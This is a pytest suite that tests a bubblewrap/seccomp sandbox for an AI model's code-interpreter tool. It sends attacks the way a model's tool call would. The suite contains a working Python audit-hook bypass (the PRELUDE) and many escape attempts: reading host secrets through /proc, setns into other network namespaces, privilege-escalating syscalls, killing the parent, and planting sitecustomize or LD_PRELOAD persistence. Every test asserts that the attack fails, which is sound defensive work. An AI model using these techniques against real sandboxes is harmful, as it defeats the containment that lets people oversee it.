"""Attacks on the code tool, sent as a model would send them: Hermes text -> parser -> schema check -> safe_execute.

Every attack first switches the audit hook off (``PRELUDE``: ``shutil.rmtree``
audits the path object itself, the hook resolves it with ``os.fspath`` while its
re-entrancy guard is set, so code inside that ``__fspath__`` runs unhooked), so what each test exercises is the kernel layer:
bubblewrap's namespaces, the read-only mounts, the tmpfs cap, seccomp and the
resource limits. Each test asserts the attack failed (nothing appeared on the
host, the secret was not read, the listener heard nothing, the parent lives, no
process is left) and that the model reads an error observation.

All of these succeeded against the audit-hook-only sandbox this replaced.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from mcore_agentic.rollout.tool_parser import ToolCall, get_tool_parser, validate_tool_call
from mcore_agentic.tools.base import ToolResponse, safe_execute
from mcore_agentic.tools.code_interpreter import PythonCodeTool
from mcore_agentic.tools.executor import LocalExecutor

SCHEMA = {
    "type": "function",
    "function": {
        "name": "code_interpreter",
        "description": "Run Python code.",
        "parameters": {"type": "object", "properties": {"code": {"type": "string"}}, "required": ["code"]},
    },
}

PRELUDE = textwrap.dedent(
    '''
    import os, shutil, sys

    class _Through:
        """Runs fn inside the audit hook's own path resolution, where the hook ignores events."""

        def __init__(self, fn):
            self.fn, self.done, self.result, self.error = fn, False, None, None

        def __fspath__(self):
            if not self.done:
                try:
                    self.result, self.done = self.fn(), True
                except PermissionError as exc:
                    if "sandbox:" not in str(exc):  # refused by the kernel, not by the hook
                        self.error, self.done = exc, True
                except BaseException as exc:
                    self.error, self.done = exc, True
            return "/nonexistent-escape-path"

    def unhooked(fn):
        through = _Through(fn)
        for _ in range(3):
            try:
                shutil.rmtree(through)  # audited with the object itself; the hook then calls __fspath__
            except Exception:
                pass
            if through.done:
                break
        if through.error is not None:
            raise through.error
        if not through.done:
            raise RuntimeError("could not get past the audit hook")
        return through.result
    '''
)


def model_call(tool: PythonCodeTool, code: str, timeout: float = 60.0) -> ToolResponse:
    """The code as the model's tool call, through the same path the agent loop takes."""
    text = "Let me run it.\n<tool_call>\n" + json.dumps({"name": "code_interpreter", "arguments": {"code": code}}) + "\n</tool_call>"
    _, calls = get_tool_parser("hermes").parse(text)
    assert len(calls) == 1 and isinstance(calls[0], ToolCall), calls
    assert validate_tool_call(calls[0], {"code_interpreter": tool}) is None
    return asyncio.run(safe_execute(tool, "attack", calls[0].arguments, timeout=timeout))


def attack(body: str) -> str:
    return PRELUDE + textwrap.dedent(body)


def make_tool(**config) -> PythonCodeTool:
    tool = PythonCodeTool({"timeout_s": 5, "cpu_time_s": 30, "memory_mb": 512, "warm_pool": 1, **config}, SCHEMA)
    tool.bind_executor(_EXECUTOR)
    return tool


_EXECUTOR = LocalExecutor(max_workers=4)


@pytest.fixture(scope="module")
def tool():
    return make_tool()


@pytest.fixture(scope="module")
def forking_tool():
    """Processes allowed (RLIMIT_NPROC 32), so the attacks can try what processes can do."""
    return make_tool(max_processes=32, timeout_s=3)


@pytest.fixture()
def secret(tmp_path):
    token = f"SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "secret.txt"
    path.write_text(token)
    return path, token


def _host_processes_with(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    found.append(pid)
            except OSError:
                pass
    return found


# -- files --------------------------------------------------------------------------------------------


def test_dir_fd_relative_open_cannot_read_a_host_file(tool, secret):
    path, token = secret
    code = attack(
        f"""
        def read():
            root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
            return os.read(os.open({str(path).lstrip("/")!r}, os.O_RDONLY, dir_fd=root), 4096).decode()
        print(unhooked(read))
        """
    )
    result = model_call(tool, code)
    assert token not in result.text
    assert result.is_error and "FileNotFoundError" in result.text


def test_another_process_environment_is_invisible(tool):
    token = f"ENVSECRET-{uuid.uuid4().hex}"
    victim = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"], env={**os.environ, "MCORE_VICTIM_TOKEN": token}
    )
    try:
        code = attack(
            f"""
            def scan():
                token = {token[::-1]!r}[::-1]  # not spelled out: tracebacks echo the source
                found = []
                for pid in os.listdir("/proc"):
                    if pid.isdigit():
                        try:
                            if token in open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1"):
                                found.append(pid)
                        except OSError:
                            pass
                for pid in ({victim.pid}, {os.getpid()}):
                    try:
                        if token in open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1"):
                            found.append(pid)
                    except OSError:
                        pass
                if not found:
                    raise FileNotFoundError("no visible process holds the secret")
                return found
            print("found", unhooked(scan))
            """
        )
        result = model_call(tool, code)
    finally:
        victim.kill()
        victim.wait()
    assert token not in result.text
    assert result.is_error and "no visible process holds the secret" in result.text


def test_writes_through_the_read_only_root_do_not_reach_the_host(tool, tmp_path):
    outside = tmp_path / "pwned.txt"
    in_runtime = Path(sysconfig.get_paths()["purelib"]) / f"mcore_escape_probe_{uuid.uuid4().hex}.txt"
    code = attack(
        f"""
        def write():
            root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
            wrote = []
            for target in ({str(outside)!r}, {str(in_runtime)!r}, "/etc/mcore_pwned", "/dev/shm/x", "/x"):
                try:
                    fd = os.open(target.lstrip("/"), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root)
                    os.write(fd, b"pwned")
                    os.close(fd)
                    wrote.append(target)
                except OSError as exc:
                    print("refused", target, type(exc).__name__)
            return wrote
        wrote = unhooked(write)
        print("wrote", wrote)
        if len(wrote) == 0:
            raise PermissionError("every write outside the working directory was refused")
        """
    )
    try:
        result = model_call(tool, code)
    finally:
        created = [p for p in (outside, in_runtime) if p.exists()]
        for p in created:
            p.unlink()
    assert created == []
    assert result.is_error and "wrote []" in result.text


def test_sqlite_cannot_create_a_host_file(tool, tmp_path):
    db = tmp_path / "evil.db"
    code = attack(f"import sqlite3\nunhooked(lambda: sqlite3.connect({str(db)!r}).execute('create table t(x)'))\n")
    result = model_call(tool, code)
    assert not db.exists()
    assert result.is_error and "sqlite3.OperationalError" in result.text


def test_output_files_cannot_be_swapped_for_a_symlink(tool, secret):
    path, token = secret
    code = attack(
        f"""
        def swap():
            out = os.readlink("/proc/self/fd/1")
            os.unlink(out)
            os.symlink({str(path)!r}, out)
        unhooked(swap)
        """
    )
    result = model_call(tool, code)
    assert token not in result.text
    assert result.is_error


def test_proc_magic_links_do_not_lead_to_the_host(forking_tool, secret):
    path, token = secret
    code = attack(
        f"""
        def hunt():
            hits = []
            pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]
            for pid in pids:
                for candidate in (f"/proc/{{pid}}/root{str(path)}", f"/proc/{{pid}}/cwd/../../../..{str(path)}"):
                    try:
                        if {token!r} in open(candidate).read():
                            hits.append(candidate)
                    except OSError:
                        pass
                try:
                    fds = os.listdir(f"/proc/{{pid}}/fd")
                except OSError:
                    fds = []
                for fd in fds:
                    try:  # non-blocking: the output descriptors are pipes, whose read end would wait forever
                        opened = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_RDONLY | os.O_NONBLOCK)
                        if {token!r}.encode() in os.read(opened, 1 << 20):
                            hits.append(f"fd {{pid}}/{{fd}}")
                    except OSError:
                        pass
            if not hits:
                raise FileNotFoundError("no /proc path leads to the host file")
            return hits
        print("hits", unhooked(hunt))
        """
    )
    result = model_call(forking_tool, code)
    assert token not in result.text
    assert result.is_error and "no /proc path leads to the host file" in result.text


def test_disk_is_capped_and_only_the_working_directory_is_writable():
    tool = make_tool(disk_mb=16, max_file_mb=64)
    code = attack(
        """
        total = 0
        try:
            for i in range(64):
                with open(f"blob{i}", "wb") as f:
                    f.write(b"x" * (4 << 20))
                total += 4
        finally:
            print("written_mb", total)
        """
    )
    started = time.monotonic()
    result = model_call(tool, code)
    written = int(result.text.split("written_mb ")[1].split()[0])
    assert written <= 16 and result.is_error and "No space left on device" in result.text
    assert time.monotonic() - started < 30


# -- processes, signals, kernel calls -------------------------------------------------------------------


def test_audit_hook_cannot_be_disabled_to_run_a_shell(tool):
    code = attack(
        """
        main = sys.modules["__main__"]  # the bootstrap module in the old sandbox
        for name, value in (("BLOCKED_EVENTS", frozenset()), ("BLOCKED_PREFIXES", ("\\0",)), ("BLOCKED_IMPORTS", frozenset())):
            setattr(main, name, value)
        rc = unhooked(lambda: os.system("echo PWNED-$((6*7))"))
        if rc != 0:
            raise OSError(f"no shell ran (status {rc})")
        """
    )
    result = model_call(tool, code)
    assert "PWNED-42" not in result.text
    assert result.is_error


def test_fork_exec_cannot_start_a_shell(tool):
    code = attack(
        """
        import subprocess
        done = unhooked(lambda: subprocess.run(["/bin/sh", "-c", "echo PWNED-$((6*7))"], capture_output=True, text=True))
        print(done.stdout)
        """
    )
    result = model_call(tool, code)
    assert "PWNED-42" not in result.text
    assert result.is_error and "Operation not permitted" in result.text  # seccomp: no new processes


def test_fork_bomb_is_refused_by_the_kernel(tool):
    code = attack("unhooked(lambda: [os.fork() for _ in range(100000)])\n")
    result = model_call(tool, code)
    assert result.is_error and "Operation not permitted" in result.text


def test_no_network_not_even_the_host_loopback_or_abstract_sockets(tool):
    token = uuid.uuid4().hex
    received: list[bytes] = []
    tcp = socket.create_server(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0mcore-escape-{token}")
    abstract.listen()
    for server in (tcp, abstract):
        server.settimeout(0.2)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            for server in (tcp, abstract):
                try:
                    conn, _ = server.accept()
                except (TimeoutError, OSError):
                    continue
                with conn:
                    received.append(conn.recv(1024) or b"<connected>")

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    port = tcp.getsockname()[1]
    code = attack(
        f"""
        import socket
        def reach():
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            for pid in os.listdir("/proc"):  # join any network namespace in sight (the trainer's, in the old sandbox)
                if pid.isdigit():
                    try:
                        libc.setns(os.open(f"/proc/{{pid}}/ns/net", os.O_RDONLY), 0x40000000)
                    except OSError:
                        pass
            sent = []
            for address, family in ((("127.0.0.1", {port}), socket.AF_INET), ("\\0mcore-escape-{token}", socket.AF_UNIX)):
                try:
                    s = socket.socket(family, socket.SOCK_STREAM)
                    s.settimeout(2)
                    s.connect(address)
                    s.sendall(b"{token}")
                    sent.append(str(address))
                except OSError as exc:
                    print("refused", type(exc).__name__, exc)
            if not sent:
                raise ConnectionError("no host listener reachable")
            return sent
        print("sent", unhooked(reach))
        """
    )
    try:
        result = model_call(tool, code)
        time.sleep(0.5)
    finally:
        stop.set()
        listener.join()
        tcp.close()
        abstract.close()
    assert received == []
    assert result.is_error and "no host listener reachable" in result.text


def test_kernel_calls_that_widen_privileges_fail(forking_tool):
    code = attack(
        """
        import ctypes
        def escalate():
            libc = ctypes.CDLL(None, use_errno=True)
            won = []
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS: caps in a new namespace
                won.append("unshare")
            if libc.mount(b"/", b"/sandbox", None, 4096 | 16384, None) == 0:  # MS_BIND | MS_REC
                won.append("mount")
            if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH to the namespace's init
                won.append("ptrace")
            if libc.chroot(b"/proc/1/root") == 0 and os.path.exists("/etc/passwd"):
                won.append("chroot")
            if libc.setuid(0) == 0:
                won.append("setuid")
            return won
        won = unhooked(escalate)
        print("won", won)
        if not won:
            raise PermissionError("every privileged call was refused")
        """
    )
    result = model_call(forking_tool, code)
    assert result.is_error and "won []" in result.text


def test_runs_as_nobody_without_capabilities_in_its_own_pid_namespace(tool):
    code = attack(
        """
        def look():
            status = dict(line.split(":", 1) for line in open("/proc/self/status"))
            pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
            caps = [int(status[k], 16) for k in ("CapPrm", "CapEff", "CapAmb", "CapBnd")]
            return os.getuid(), os.getgid(), os.getgroups(), caps, status["NoNewPrivs"].strip(), pids
        print(unhooked(look))
        """
    )
    result = model_call(tool, code)
    uid, gid, groups, (cap_prm, cap_eff, cap_amb, cap_bnd), no_new_privs, pids = eval(result.text)  # noqa: S307
    assert (uid, gid) == (65534, 65534)
    assert groups == [] if os.geteuid() == 0 else set(groups) <= {65534}  # an ordinary user's own groups, unmapped
    assert cap_prm == cap_eff == cap_amb == 0 and no_new_privs == "1"
    # A root trainer's bootstrap needs CAP_SETUID/SETGID/CHOWN to drop; the bounding set keeps them, but with
    # no-new-privileges and nosuid mounts no exec can bring any back.
    assert cap_bnd & ~((1 << 0) | (1 << 6) | (1 << 7)) == 0 if os.geteuid() == 0 else cap_bnd == 0
    assert max(pids) < 10, pids  # only the sandbox's own processes exist
    assert not result.is_error


def test_the_parent_survives_a_kill_attempt():
    """The trainer stand-in (a harness process running the tool) must outlive the attack."""
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    code = attack(
        f"""
        import signal
        def kill_everyone():
            targets = {{os.getppid(), {victim.pid}}}
            targets |= {{int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()}}
            for pid in targets:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
                try:
                    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
                except OSError:
                    pass
        unhooked(kill_everyone)
        raise SystemExit("nothing left to kill")
        """
    )
    harness = textwrap.dedent(
        f"""
        import sys
        sys.path.insert(0, {str(Path(__file__).resolve().parents[3])!r})
        from tests.unit.tools.test_sandbox_escapes import make_tool, model_call
        result = model_call(make_tool(), {code!r})
        print("ALIVE", result.is_error)
        """
    )
    try:
        done = subprocess.run([sys.executable, "-c", harness], capture_output=True, text=True, timeout=120)
        victim_alive = victim.poll() is None
    finally:
        victim.kill()
        victim.wait()
    assert done.returncode == 0 and "ALIVE True" in done.stdout, (done.returncode, done.stdout, done.stderr[-2000:])
    assert victim_alive


@pytest.mark.parametrize("ends", ["by_timeout", "normally"])
def test_no_process_survives_the_execution(forking_tool, ends):
    marker = f"MCORE_SURVIVOR_{uuid.uuid4().hex}"
    code = attack(
        f"""
        def daemonize():
            pid = os.fork()
            if pid == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", {marker!r}])
                os._exit(0)
            os.waitpid(pid, 0)
        unhooked(daemonize)
        import time
        time.sleep(0.5)
        """
    ) + ("while True:\n    pass\n" if ends == "by_timeout" else "raise SystemExit(3)\n")
    try:
        result = model_call(forking_tool, code)
        survivors = _host_processes_with(marker)
    finally:
        for pid in _host_processes_with(marker):
            os.kill(int(pid), 9)
    assert survivors == []
    assert result.is_error and result.metrics["timed_out"] == int(ends == "by_timeout")


def test_nothing_persists_into_the_next_execution(tool):
    plant = attack(
        """
        payload = "print('INJECTED')\\n"
        def plant():
            planted = []
            for directory in set(sys.path) | {os.getcwd(), os.path.expanduser("~"), "/tmp"}:
                if not directory:
                    continue
                for name in ("sitecustomize.py", "usercustomize.py", "mcore_evil.pth", "libinject.so"):
                    try:
                        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
                        fd = os.open(os.path.join(directory, name).lstrip("/"), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root)
                        os.write(fd, payload.encode() if name.endswith(".py") else b"import os; print('INJECTED')\\n")
                        os.close(fd)
                        planted.append(os.path.join(directory, name))
                    except OSError:
                        pass
            os.environ["LD_PRELOAD"] = os.path.join(os.getcwd(), "libinject.so")
            return planted
        print("planted", unhooked(plant))
        """
    )
    first = model_call(tool, plant)
    try:
        second = model_call(tool, "import os\nprint(sorted(os.listdir('.')), os.environ.get('LD_PRELOAD'))")
    finally:
        for directory in set(sys.path):
            for name in ("sitecustomize.py", "usercustomize.py", "mcore_evil.pth"):
                leftover = Path(directory or ".") / name
                if directory and leftover.exists() and "INJECTED" in leftover.read_text(errors="replace"):
                    leftover.unlink()
    planted = first.text.split("planted ")[1]
    assert all("/sandbox" in p or "/tmp" in p for p in eval(planted.splitlines()[0]))  # noqa: S307 -- our own repr
    assert "INJECTED" not in second.text
    assert second.text == "[] None"


def test_huge_code_and_output_are_bounded(tool):
    code = "x = '" + "a" * (8 << 20) + "'\nprint(len(x))\nprint('y' * (4 << 20))"
    result = model_call(tool, code)
    assert result.text.startswith("8388608\n") and "...[output truncated]..." in result.text
    assert len(result.text) < 5000
